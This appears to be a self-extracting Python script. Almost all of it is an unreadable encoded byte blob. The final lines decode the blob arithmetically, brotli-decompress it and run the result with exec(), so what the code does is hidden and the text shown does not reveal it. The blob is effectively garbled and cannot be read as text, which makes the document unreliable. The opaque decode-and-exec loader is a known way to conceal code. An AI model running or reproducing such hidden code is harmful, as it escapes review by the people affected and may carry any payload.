J6{O7x͖LG&[x<pM\Ǆj^ӞG*ox"5T׉3@/=LNT/a1ů1),VҕYC+J݇L4R`æL(ɸzmlR9Fxi?L	pjw< mvW	eJ.MԕQsڬ{U0Kʅl,=6NStV$rV`	%ðφSSQ'B]*/h"!9چ9l%AQqݤn/8eIӐ.ԼIyϬ2W2z0fNg'!ԟ6V(Ɛ+%**
8۫#|p¢ޮZzpwAyC*GθFkJs@z9]cXa*S2mKk:rxm"Xr<!(H<Fw	1ӂRѮb-'4{+Kh/:E%d`΢̌lK@V2}Ʃ_YkM^PJQ*b<; ?'dmj	&C&ɫG.sTZ;8h"[$Bl?Z2
b	{@6X*@_'?#shڒלp3\f,]Ο$g|'cb;ƠYٯQCݗj7Ϙz6g:CɏC=U?u0gK>*^ǕK%fƤxH6e
%&;
FΞ9;ۨ]ĺfh\_k,Ѡ)D~jɃ;ʧ%,oY9q׹B~y-2`ëC|._و!NZx\ dGP2Ѝp+KAL0WW#VeB	zpet;
ە!rXEqFI6ǧS1Izȕviܿ<,o(]0?kYxzЧEW˓D%[YٮA^~7PÝoƨˁ\VBZC~m*nιA}K
E
k-n&E[!E`3M@sk"AvЛ>RXmw)X}&9ZBZ]Hׄ3p<N7Ƴ4у8Y
˚^ģ,hX2W!чcMi
vOƝ@CjzLV2[9Q>*Y©s:-F+ٺv5Ӡ*^7ԤZ$k~%ގmQ;a%[h'=3&ϯw|VjyM.4=u_%zߠ*|ltBԱLҦԫԑ!q.OI?kk<OV	'"Z, ex1	!_:(>۞L0b/w_9zΛk	̤D4WÏh%pRj^yqBKؘwK=94R1uۡqtN|+T`5pT-JYW1%?Zm-ZZl:.,%NNzS	"yZ]ʿɶp6+>reC7#H`Pdތ3fvÇ5ЂT[GyV<)Ssm"ec<ܳ׬̲vޛt Bs8zoƙ*~yCeéMٓ9ݯe3]DvWΌ#,1Б.~E@5cx ĀI]r@!i'	oד0&tΧ6ظ}Jzݢ֎TIkn«٘#gaµj:lI+UɣTɤdмoެlbab3kܡۋ(4d&f6Jޯ<Mw*B]ΔiimY	Y+BƵMnwˊ|%]+U}L]<gv+ `m.)%f[HĄͪ/psM1عR]ʷOPͬۤ^ٮvZ2:_rϣ1Xu/X(Cs(^`19NJĒY7m6N(Ŏpڗٽ](AVN[$v)bEaĘ f?̢tsѩBr*v*rڣ
@ŨK]8ނ]p}Zѱ2l*$y,}ʿPb5[nT`:NQ] ua`Yغ6 fgoE~*|6$g]ER]xK:ɼ\gGKu	 znvMN%nH^xڮO#kuZhהzb8FUvQhJ1P=R]w}DajR2ڲɆ+5t$};4ʛm4mo!AjuTl9E$K<zߋiiɜRQ<لvWd(_Lf'	߻uΌUq`[b79Ȋ٦6ï#QmK7кvGnZ91D`B`ʺMՃL϶ĎXGU"sqP}tiCW-<վ|*CBxH"m?ȠTKm)Ȣip@	g({O+´;z/wHj@#D3Â4Bκk'6LK>`Wל Mv2qZ38SMhEw?@ѧ=[	4)n4,]qFs]dEP<h{zͩ(SH}?J?@	,pKC"qcƁ0>	DQ&G]U˔L@p0C'we:kw
ֵUO=`aBmN7zW\dII0TCy7^!y=׶#8PX6qյgW6Bd;tGr8M4I ʬ״xnCH%/cD?Wc-Jտy{ȡWƞJCt] ^ݪϙЈQ'Y,գMŸ5͢{Go-Xα;2MۣGCVa0bv+0/İUN7cؘmy^׆8D̽YGԮNhR#W-#ʼ4cQ1S'M	ܨ[UUsSq"j7Wg1%{66hނ0L#ys}L5abWSA~Lޚlw aɴBӚTp(;HbqG`[e׼=Yw(^ p?,`au&1qǇ=: %} زB#f-d@e]D&FU#4ȻQk	[a6{Ѥ(rM3g&}k$3iьEߜ^y͕c]ѵH3,^7;lf?@5v͡a'<c_e46|z/*Czw5WSJRУv?Sk<oO%H̥Byo.-@.0cwU|NonmwI@DxAg@8.nTY@XYRݢMR:}ҫEhѲJ1+b̉ТtA{\;ŷԵhK BI8K!LP]pt6k4C-* F.g3eZ@?!8=94CNZ̠ks(֒1{ZQTQBWtk:"19 @Q3sC71Ί7[ێԎH1Y_LB͵?QV|t0KQxΓ޸'F!ܠ)!Š3f`:E{e95Қ3,GpwcCLŔy7D&}߽UO-& yb|ISA:7N4l0:O%[:CUHO4e6G-_fA̒jzΖGR!\gtPOLFTAv01!
/:ۣYr!GĀ*&uQ?@dv3inxvy+GCzDʘPNA7˽_
7ki*k>dtϊq0>d*LSf3;NTـ3Nt$50ـZ\X\qqTҍV۳uW#/ϰi$>ab`7˨}Qs,!vjdZ>'}ѷBzCeڐ`aT̥g>QN֗x}@wz>G+IB\Γ0(סRX\	<+!WHB*8՘<ieu:x(I3 Wa˗WeA~oj,?>z$ ,(X&ߤjrϧ\P ˙vmfJĤv{}8>:WaFP!՘bZ=NQ7g{Ժ;IT[j0ߙ^/_aZx m+^:o<JRje'ol+"]:ّ=jO,b"DNxeܺgV~^u,l/hX;	nI;Sj#xSyABTx5|5&D^@ǍE
cbY aZd	fm?$vrD-yBaԀ28.S_BEqa`c7ܧfS+=ÃpEYSBҙ$d>Vӧţ}F'h
Ic,REY(t30t)Ex!^?K65=p.8o"zj$h4~3g`eڟVi00\[W{hByz=ފ6)̥lsT5eKQrk1MMbMʰ[fORMPTC!MP'_9LtQ|ǔlbZĵΊʐLĩFf&aQMwi	ңԓb,Ĭ_\AڳSؐJ׀M*Ac>St#z߈7->i6sIAh!K4.It{=bkiߕb?gU4YM-g%u̸=vٔʮvcrf68p{h&vdn&/²ѥVݛaSڱf5y:b9̔^٢Ҧ\1e|=[Qå1&ՏvNVGgW1e~R@ђKQ@p9+>2ߞe'AN}`ƙ9^`Kr(#jIvz-hPLJ<ǜQ=úeG"CVpoTC!2Ȋ[ӁehGWs~ořc	8߸@ѿ8E2iC>&]3fن#ܴ|5^+n+t$ͳ;ٺֿ|ݴęu<:yrjwqoQZ`''2Ҟ;!,WG^3zcD/taQ ;P|rK_N\-X[6L?KTp7<up{5j8&M X@Y=fnWϻRsa~_ҏv$pjD\nRz!<Gt-͔0.ǆ+CIð2zb.؝FN0mb'H^~f#(z/;JDмPػ\bq޵T_LϜ-	"o\u=,A9,Gwu-v	%U"{ܕzW0u_1e)uB}<*Th
e"^tI,̿ IA$zh	[֋_<UiCE/LՃD7+yƒ1^Ҝrl2Đ	OʔY8w;1a-YAR}}KB1Bɸʙl>ٕD֙
5T{=EzNR.Z;+^99˛-kL#qf-qM{_-4˞Bm"{p'gZdF}ƔЉz1hXBf٦A}f!Dig ؎"#HL6Tx+Nc5`F(D>:f+K2%ІiP#_AޖSNJ׷;؝~AeCƦ[|AӇ|;KwiظO;R~znfְWc-rl+S%\ťՓs|bҹj'+RwA#/G[+@G#H]^`W2fd|T2=7ZnlmZMtj]{ݥ;:2)geiD{Iӟ#5RW&)cXeZ	+.1Ȍ9J],mZ=Y=N4FsL
ݙ-fB	p*c73X߾d[2[Mɫ%|M]m5(ĞA-
݊h.s`P:аTϦuEˍ~1}y'{lMR۷nƏߛH(j6ȋn7fԐAJu~
PLiK'zQpX2|PaNÂg˺1>.Z90*ɟNU2g?VGyܣz_z*5j 0N/d8.N9)В5<O}eZЈ*ѯQ1Jb2A׶I5͞š_!"pĆ2wbcEcV^ó.4$@TzIvð9piGwb,^2Ⱥgֻ<36}zqm5ĔTɖ\߳:k,X=Oߨ -20ҏUw<K1_5:-`X+T#$*5bB3nj;Ǎ7B\iZg[|)0}gy1ݟ|/&@Hg@e_RzpmF=p|ɓxi>L߷X~Q<WΖ:qIY/p==ChFg|;Ɩi^8u!:ƽ*ߎUKO~"O$n3d[ӄjw(x!x5Jl3tD7+vM2hw=70HlS4|-lS{kH\POvkaƖnhfӹ7*Tm+MKq<
Vj@B1oYSèNUKH/G9<ι{j4ɖd1j^[#BؐyG?c<	`Hnl *<}u?\-CGЕ\<"*wΧ~+9n^X|*xEWDLG
ʵRRVzfIcpԯ:G.*ơlY@Y >BSJt΀^5'0hd#؎zN?oQӑ?ZpƤ}$̥cU72X5`Kԃg̠j>)n~KLMi֯-@ge6=ފ+3ȋ~pwa֥hB60Ţ˝s$ҾŎXzz:|WmhAĶ"BKYY
tʙL&`kٿbjy2klͶO`.o%7ȟ|*ݓm]_"%.K9@81&dJv9,ʸqVGquKл2Q"Fn^dAӞB?4?I[]Cv܊b%+tc3d6áNbЂZ'P{Ŕ,Q;5|zY͖ǆ@oQ/nyU$d&'̩Io j</TP*={]43-!'T+N%8˰HJ2SBMci߽>4ׅlȺ^^=݉@<&W@QΙ*j.؂o*,'ݣZU!\u.q>֕	ʅOQSD:	4"$F8S\2DI]͆%ǚ/Ԫp˭	*ӪݝP4Nre%v۾,|2>֘
|YuXą"4#22}ǡ^UӭzӲ)5\S`,R̀o	!h%Fƥ*m\ڼdC<3#ː!9SC$er/D%7&Yx>\zP Ko2Ķ_i+ʍIjmUrD(M#kN͑ o0úg6/U*uSٕ/ƍ+V?bo~ٞY%40Zm̮z FJلa1bj-!X̖8mٸ~;+EhhFu|܆aG%"9HפuS5A~˵XSfs}\Ҕ_$?!)9T\dމie;Bsۉo->j1wڃH4"]2˓.O%ԅJEdzvJr	([)\jۂq5ԾWɘL>`u^dƝc(RHu	סo$iEhqy.8'N
_5T*+ͻ*7=b%A<i¤|=Ox/y,igparg0<oޢ_МÌwkΈ߯=\g#Q	_|8gCv?16D-I5Ԛgĺ?0|5A8JN>;vѶrcĖkٮܷ%
QOWƁPby<qd*-IҖǗ _xݚyϗ#G5ˌ4HYԔC}tnz.PQK*Vs*8^LЕ 'Y@"~ג˳Uc3U;z7vD.ZxM=NDy>Y*G*z7mbJw_DWOXEd'f
cIpqϊrnC2QQCNR'u9z\"Wn`U] 
t
k[^lfgaVR|$){\VzD¹{Uj%C`bit*~Bϝ6×Cl7[QMʓ/fG0' 
tމ޽۷F^ծ!JEWV|WB.ӷ\Zؓ+,o2.4uk*¸ͭ)I%åOjaѭ!ۇ~#EHmM$3})1U7pPg[M8`?v4٪;wäש֭b"De$;<mP`X/uUM˙\ek~kNK]H=^hnPܧp{/	ȆÃ<HDoW5^=]"_NeE4mIOm]&W^irư.[EAv@%n [^Y~/އ[,`:P[9Smn.tQ2xɏuy2+{.M1`K"x4pʷ<KQ!i?˚؞CB-$pxOdމ6!KH2ypOMm3_Xhn1z$и$ؙ&ܠKY#_ZCjGHT,%jأxgБ\/G5kZv1nq4֐*:NCV0)i2J"|5+\Zq!%<$ (utEZS̢N	,3=PNU]p>}xhȉEnZΖ"}s-_!ޯd?;+ݜ1"Ia`j;{xil$%ĖTM
#TkIENƮ%u196L,2:pY&Jv:ުYIK\9e^$@)+@4WP/rQ|6)	8F;eѺlEqH:̾ЋyZP_ M{|]cra>8)9xJ	"y:L$;_pqԮ:ϗ@
LZW|89<Z_cV۬n_r\5ǥJP/O3p;P.c"Z/WвF]u'؞8vqQeynkr]pI?IwhxS&B1828e>Tt3܇_PhJIT1
d:[c:uٖ=aŽI
M!J,sЯס/GRf_Ԅq/xӒ7ԯh>xT&50HD)E?@o̪ܧ+XH6{	Mb59Ά3jt{W#W!N8kVgfIa6EU!@3,oK
4=E`6LbJ,?_*b59M;#|';³C͸52ۥ|֎ڟٜՃtr$-EDCٳCO}i
tJ6D
Yr	ڲMJEܠ%oՄmf)"rbwfHsM-@аya`<+2?f'{JK̙Sy3v_5nnÕ=H+mS5F4UIp"=k_.d5	xIs$3V?M]H`do݅K\A]!N?dnIX'GMb.Ǡgxʅ'¬h3]?)DdydE",&gE,Wk+Vq_k-5dE2u1HA,ͤt
?&k3ULUzmr I\!<k8 ÖBCxZ˦],|Lp7+P?83FPcA>˵{USԼAɵe[H֡V׷FX,ms&eݓ1@5ܒ:[dXόixӛkx,ïK*cbc~=@h޸%Oq
:zGU?Lb(Ůx=Q'-@{-NZ\[&Hac9:XTU|8R6݈VĐ-UyUCD>KZPƈ`ZƜ^@*|@9pR۹h59Ѫs]{RakDԯS4p2Oն<,z@zWǆ/ӱrږ]E\CI"Zbr(ԝ6-<o)@wƷ>س-"*ſfCJ~q$yo@$'}ܕw;;ڪ͙nжTb֔̆\][9ӼٳQȹoa>2]U(\ʯĸzT<(\wz"yŔr
?8zRwqnڄV`;ʮ=4	j#%a߁9ңd˲	W9gH%4nՠ݌вӇdrFqoq;#<[~r<,h>a7ܹܨsjru=N؞bmsߡENA		7e_9Wr-Iɻ=h
dmj#2v/2\l-U[Jz5+4צj]ȳ@ΟJƋW69*xRplɑQ}ȍ7C0h^$E<cLLa|DuI|@rJ(~чBĕmWEI8,{_bǷ/uP`tJ0Rn;qVфhG`O֝38&"	8U{2'W}̭&dU¯	tb_S@)*Vv/ћG ʂDQʄ%pEu#P
fdr@
f3jO΀\7g3Х]/	ݐd:^și6
]Vsel`UM!`ߧmԪZrbtzYs ̢({k*ƴfm9v[xl߂A@ycXՕ8YvKo#R%fl΀<-U:a?\HM=C#r1yż>60!8\r)gY,/AٔYe<9ڸ?̦%A^^	\d,hҌt҂!*SJ "Kxv@;
BDl/|=4ӄ.$U;Pӧg	=ʶ'sOwœsrBaI*oXy+*=zAL"(M\(O=7T)LiV"9vlΊ 1[Ϗ>X\ۜކ"`vGɼr{H#7|E@["iE]ws9ߊ ++rZW}FqPJ	&yTjYpqG+@2Cv+[*]~]YO@W%F+C`vD%cy	+cZݓ9ң%YlLuyV Ubq		7A_6A66}?K2^NL^{:wPȃ*_˴ܗ.t˵m&(]?}Jp	ςkJiP8NUܲR.η.YyI۠|!mxМ&Iȓ]P·ɗZ4"K*yp\Η,_w,`ˆkt4<DCh{$$c<-;/!X,&v*ŤvW0!`k;ػ*^efGM5vBlPޯmBµUvDmDo,ǚ)_{Ë+aC^h=B>ľ}Kq.grHrl/aja2Țq8ۭeA{ך[
/"r=;Ɖ|h}HF՞ɶ̔PDo¨P8$?F[T$Uӆ-	>wǅ>x.7eP֛-F,ojuBL?{6KO87Xϑh֧Iv[U|eK!3<AZ1ޛuDѯĖ)H/T2$k¥څ!:.0btJʋX%L:cl7pD44Eע߷Ǎ	",̱l?OeBBWӈāӉΰS܈YX˴s9>eҫCH?^ڋhlo\gy9EE/?X	8\gS+8
^ՆPA^"pߐgi.(=T~&QäSvmPìM}S"V}`OFb;rƷSΌG̰JlEv:-r|(
-ܸ8YFǏR8cpĈC	^3Vޙ#XuLY7a{,©g9gll`Yȁez<̦=V7PBb kiOŌBRӑD"mZ{<:;'O6kTlч-m"jڹo{J?Ӻ4octIz2F
u/VbS`h$M[)25޽t"ېb*CH="Qu"ޒ֏uIZ>!qih@oZףKq6%rYg:s'5Mb<[Geyb ,8׻Obxʨ0,m_Nam"Zէ|\i:W];_O,R$ZϿ *Vɱ~:CE]
SzRpюʈһVyd,"R4QfP4 H\mHK"=Enaˁn`ҕh+q*׶uJdwڂhs@S}pŧBw<@z,]/(
Xmaۤ2It]9]
kz)#fT8i>~T2{ɒC@8Qz=Sn[SYbn9 &BjGwzަ\oʻ##,Mk"S`m)Ne3rZپlS)ʏ	N,EX]EO׿ݢYbR:5݈AO(wSmdolnyIgi!Lbe"WQޥΜ6}L)@I~u0ƞk*:*R7A,w8;8ސӲ҅/
:JsQesE7P7,-kjGƺyFaqu@kD[?O+ڹ3DFC(!Cء@7c+[X+6;iH;τ%ڐT3L06[SMΒAOD(sPԥ9" tg&>TZ'9~BEϨ%{ߑ̳
%T9Bbku-3k0'A/Thi0]	t4x#xe}ŉЛ+}1U}-nAS(u6ȭxvͯ7z,@ӌh"Y6
.֬5̞͖>?!mqhex~ՀBfSPYgZ@*J/)K?l:!YJT|K4bwF٪ ؂{`.v*$|OV3e"/zGzHĒmN!#Ȫ|McJz
_mN0c~Ov'T_\9':nm"Z_)#DjIq*H'c܆/{>p8үBmV}n7]EՂH>%nuM5G<8QPS9mW9~LʺME)09o~q~hxh'ܔI/U^YQBu&v4uml>zgْ^ٴj=W~j|igxI<+̉Ȗ7v9PǎGI5ķjι_ؿ%oÜ&x^Zۚeɓ<c73lWt~$֙xP`Q*O h	ڣbe~,MvBٛL]5MyQ:L(q 
J4C>%G";Y#3`q=A[|H~O'&|EM.{6CdwӞftY5q{.Pc]&năx72|_uJ|xeC`L/<PzRN-f_͊RUVK#S#(К`uTԴ-­T2mDc|o|U#Ѹ=Wsw+K!] J1Rң>dy8.٣0$'5JquG#v,+ޞ˱Hen\2ȫ5s
- sf9`*Fd# PIa2-#-~5\Bl)PJߡ,2̀\G6Xb2|TpZtx:o[>_i]0kϳPjUHky$,\QnȏЀ?>AQ<}DD$}Nwj..WA`{<-JՌ\m)ֶwU\a9LLG\0pܮFfUoL%}$);@³0!?]ݪԤҳ>FyD
vbv?/}c%6KS^IυqMRlM}W3^b7QBڬؒQJcHGoĴT~@.CUGRn'1d=øؔ:a&,-͵2 ޅf:%pMܒ z &݉0aܧiA\Rvg
[fubK<8ZϟӔ:,V3},}k72ݨJl,gӃH]YL,q'zzؚ/s Xɗ&!/IfʫyĔהi15i~e<8EՋ@As4yYMGoۆ>bWvՂۀ'HC&]c4IOuTނ,{C<&UɳaJɳ=WkKmwǌB߻v1E;a>+}܈K<uq@ڻ}t;6IרjԌ=Sl%IB?p)O"ѣc@D	uǾ>"HO4I]8MjYaѯ\'žWITuHLZVbGn#oc>fEGѴEt
'$f֍!}`::KX{91_u\ow_.{GBawelVr~D.uU!*8
κMܦjiԓƔyDu W[i6?v(."wGeGusг}
y|^*(UŌ
Yߵ(3։ΏF2$۩G9-է@!qteO*jw*p˓B2#Ɵhxx [1ʎm:(kp"ݣ]Z*XVIKw7L.VϚq#/4\>ƠoBpBK\,b@o\FYSۻ;6e]-HO#QCjYE((YYO}9aBO->mU:,j)h	.@ܹ͌˳CCp?$5*}Ŗ3ghѵzWŞYJ,.a~K@ھ8s*˜\!b>ZM҈֡LYkQջ22ǷͲDӪݚ2JM1kZĖE+ҳѽY15Qm0kb$g&uVA0"jYלŜ\Շiz1^I_[
"׋$0~J\EYٓ:ۼ3R<[VipԡV6Ÿ7VE@N{*ӛ|N=&tVxu^&wlMb%W}4f<WĽN[*]L.t[Jf-Ԉ`55СVK-F}Tߍ[Ue2Ǥ6<Cًw_)i0AlYʁٱۿh3]0rvGUL&AsۨBmĎ!me1]]}|i:t7qS,[EӳZ]RI_n{4kˤy˚smNy܂ϙܟyR6TR*(1SDAÝ7<ی28ێ_
99i\YV4RWG"*hm7%O9DkԧFcn-:̖8}hkO>Q͜jHո׳;kJ8V)B#?!ނ/o{łwʁR(˹o2tַ|Hy_Xv
2\;R;C#/n;ٮ߂2euݿ:aMG4̱ھ=&%M<Y"[ڎTP\L	؊I;cƵ:
j<aer2
fǅ|*'!!ɹX)gԙ8U/Eά(h|?4"Lh˷(VZ&.KXg`'ifJyӅ'&>eh_u/Y2מ/ƅe4	Ԭ7 F;Ր:8؊iP+P'#lc|wlloq4uY8u---KګՆZ/FNa!FĦpi_ÈZf/U''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25630)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
